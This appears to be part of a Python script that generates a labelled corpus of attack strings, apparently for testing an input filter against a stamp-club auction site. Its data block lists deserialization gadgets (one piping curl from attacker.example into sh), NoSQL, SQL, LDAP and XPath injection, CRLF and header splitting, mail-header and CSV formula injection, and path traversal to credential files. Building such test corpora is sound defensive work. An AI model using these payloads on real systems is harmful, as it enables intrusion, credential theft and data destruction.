deserialization ⟫ gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
deserialization ⟫ !!python/object/apply:os.system ["curl attacker.example/y|sh"]
deserialization ⟫ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
deserialization ⟫ {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Obj","autoCommit":true}
deserialization ⟫ _$$ND_FUNC$$_function(){require('child_process').exec('id')}()
deserialization ⟫ --- !ruby/object:Gem::Installer{NL}i: x
deserialization ⟫ a:2:{i:0;O:14:"MemberSession":1:{s:4:"role";s:5:"admin";}i:1;s:1:"x";}
## nosqli
operator ⟫ {"login":"treasurer","password":{"$ne":null}}
operator ⟫ {"username":{"$gt":""},"password":{"$gt":""}}
operator ⟫ login[$ne]=x&password[$ne]=x
operator ⟫ {"sg_no":{"$regex":".*"},"owner":{"$exists":true}}
operator ⟫ password[$regex]=^a.*
operator ⟫ {"email":{"$in":["admin@club.example","treasurer@club.example"]},"pass":{"$nin":[""]}}
operator ⟫ {"lot":468,"amount":{"$lt":0}}
operator ⟫ member_id[$gte]=0
operator ⟫ {"$or":[{"role":"admin"},{"1":1}]}
operator ⟫ {"reset_token":{"$type":2}}
operator ⟫ {"country":"GB","$comment":"x","price":{"$not":{"$eq":-1}}}
where ⟫ {"$where":"sleep(5000) || true"}
where ⟫ ';return true;var x='
where ⟫ 1'; return this.password.match(/^a/) && ''=='
where ⟫ {"$where":"this.role=='admin' && this.apiKey.charAt(0)=='k'"}
where ⟫ penny' || '1'=='1
where ⟫ {"$function":{"body":"function(){return true}","args":[],"lang":"js"}}
aggregate ⟫ [{"$lookup":{"from":"members","localField":"x","foreignField":"x","as":"m"}}]
aggregate ⟫ {"$expr":{"$gt":[{"$strLenCP":"$password"},0]}}
aggregate ⟫ [{"$out":"members"}]
aggregate ⟫ {"pipeline":[{"$match":{}},{"$merge":{"into":"admins"}}]}
couch ⟫ {"selector":{"_id":{"$gt":null}},"fields":["email","password"]}
redis ⟫ SG43{CR}{NL}FLUSHALL{CR}{NL}
js-injection ⟫ 0;db.members.drop();
js-injection ⟫ ');db.getSiblingDB('admin').system.users.find().forEach(printjson);('
elastic ⟫ {"query":{"script":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}
elastic ⟫ country:GB OR _exists_:password_hash
## crlf
log-forging ⟫ Penny Red search{NL}2024-05-01 12:00:01 INFO login success user=admin ip=203.0.113.1
log-forging ⟫ lot 17%0d%0a[INFO] payment received: lot=468 member=attacker amount=900.00
log-forging ⟫ bid 40{CR}{NL}2024-05-02T10:11:12Z AUDIT role changed member=77 role=admin by=system
log-forging ⟫ SG 1%0a%0a127.0.0.1 - treasurer [02/May/2024:10:00:00 +0000] "GET /admin/export HTTP/1.1" 200 5120
log-forging ⟫ 1d black{NL}[WARN] certificate 2019/1234 revoked by committee
log-forging ⟫ Search: watermark%E5%98%8A%E5%98%8DINFO fake entry
header ⟫ Lot%20245%0d%0aSet-Cookie:%20session=attacker-fixed; Path=/
header ⟫ /catalogue?page=2%0D%0ALocation:%20https://attacker.example/
header ⟫ en%0d%0aX-Forwarded-For:%20127.0.0.1
header ⟫ scan.pdf{CR}{NL}Content-Disposition: attachment; filename=invoice.exe
header ⟫ %0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header ⟫ redirect=/lots%0aSet-Cookie:role=admin
header ⟫ fr%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
splitting ⟫ /auction%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
splitting ⟫ de{CR}{NL}{CR}{NL}<html><body>Your session expired, <a href=https://attacker.example/login>log in</a></body></html>
splitting ⟫ %0d%0a%0d%0a<svg onload=alert(1)>
splitting ⟫ /lots/112%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/admin%20HTTP/1.1%0D%0AHost:%20localhost
mail-header ⟫ member@club.example{CR}{NL}Bcc: everyone@attacker.example
mail-header ⟫ John Smith{NL}Cc: list-dump@attacker.example{NL}Subject: Urgent: pay your subs here
mail-header ⟫ jsmith@club.example%0ABcc:%20victims@attacker.example
mail-header ⟫ Newsletter{CR}{NL}Content-Type: text/html{CR}{NL}{CR}{NL}<a href="https://attacker.example/pay">Renew membership</a>
mail-header ⟫ reply@club.example%0d%0aReply-To:%20phish@attacker.example
mail-header ⟫ Auction results{NL}To: all-members@club.example{NL}From: treasurer@club.example
smtp ⟫ hi{CR}{NL}.{CR}{NL}MAIL FROM:<x@attacker.example>{CR}{NL}RCPT TO:<members@club.example>{CR}{NL}DATA
csv-row ⟫ 1d black,used,1{NL}=HYPERLINK("http://attacker.example/?"&A1,"click"),x,1
csv-row ⟫ SG 55a","mnh","12"{NL}"999","owned by attacker","0
csv-row ⟫ lot 88;70{CR}{NL}468;1;treasurer;approved
csv-row ⟫ O'Neill,203,£5{NL}admin,0,granted
csv-row ⟫ perf 14{CR}{NL}=cmd|'/C calc'!A0,x
csv-row ⟫ note: ok%0a+cmd|'/c calc'!A1,used
## ldap-xpath
ldap ⟫ *)(uid=*))(|(cn=circuit*
ldap ⟫ jsmith)(|(objectClass=*)
ldap ⟫ admin)(&)
ldap ⟫ *)(memberOf=cn=committee,ou=groups,dc=club,dc=example)
ldap ⟫ treasurer)(userPassword=a*
ldap ⟫ *)(|(mail=*@club.example)(cn=*
ldap ⟫ O'Brien*))%00
ldap ⟫ x)(!(cn=*))(|(cn=*
ldap ⟫ \2a)(uid=\2a
ldap ⟫ *)(description=*password*
xpath ⟫ catalogue' or '1'='1
xpath ⟫ SG43' or count(//member)>0 or 'a'='b
xpath ⟫ x' or name()='lot' or 'x'='y
xpath ⟫ ']|//member/password|//*['
xpath ⟫ 1' and substring(//user[1]/pass,1,1)='a
xpath ⟫ ' or string-length(//member[role='admin']/password)>5 or '
xpath ⟫ lot')] | //* | //*[('
xpath ⟫ admin' or 1=1 or ''='
xpath ⟫ doc('http://attacker.example/x.xml')//a
xpath ⟫ ' and count(/*[1]/*)=3 and '1'='1
'''

SQLI_PREFIX = ["SG 43", "penny red", "lot 301", "Michel 1", "Cape triangular"]
SQLI_POOL = [
    "' OR 'circuit'='circuit'-- ",
    "' UNION SELECT login,pass_hash,3 FROM members-- ",
    "' AND SLEEP(6)-- ",
    "'; DROP TABLE bids;-- ",
]
TRAV_PREFIX = ["scans/", "certificates/", "exports/", "album_pages/"]
TRAV_POOL = [
    "../../../../etc/passwd",
    "../../../../var/www/stamps/.env",
    "..\\..\\..\\windows\\win.ini",
    "../../../../proc/self/environ",
]
EXTRA = {"sqli": (3, SQLI_PREFIX, SQLI_POOL, "union-or-boolean"), "traversal": (3, TRAV_PREFIX, TRAV_POOL, "dotdot")}


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def parse():
    out, cat = [], None
    for line in DATA.split("\n"):
        if not line.strip():
            continue
        if line.startswith("## "):
            cat = line[3:].strip()
            continue
        cls, val = line.split(SEP, 1)
        val = val.replace("{NL}", "\n").replace("{CR}", "\r")
        out.append((cat, cls.strip(), val))
    return out


def main():
    rng = random.Random(SEED)
    lits = parse()
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            benign = {json.loads(l)["value"] for l in f}
    rows, seen = [], set()
    order = []
    for cat, cls, val in lits:
        if cat not in order:
            order.append(cat)
    for cat in order:
        for c, cls, val in lits:
            if c == cat:
                assert val not in seen, val
                seen.add(val)
                rows.append((cat, cls, val))
        if cat in EXTRA:
            n, prefixes, pool, cls = EXTRA[cat]
            made = 0
            while made < n:
                v = pct_all(rng.choice(prefixes) + rng.choice(pool))
                if v in seen:
                    continue
                seen.add(v)
                rows.append((cat, cls + "+urlencode", v))
                made += 1
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, val) in enumerate(rows, 1):
            assert 1 <= len(val) <= 2000, val
            assert val not in benign, val
            assert all(ch in "\n\r\t" or ord(ch) >= 32 for ch in val), val
            f.write(json.dumps({"id": "hakm-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": val}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
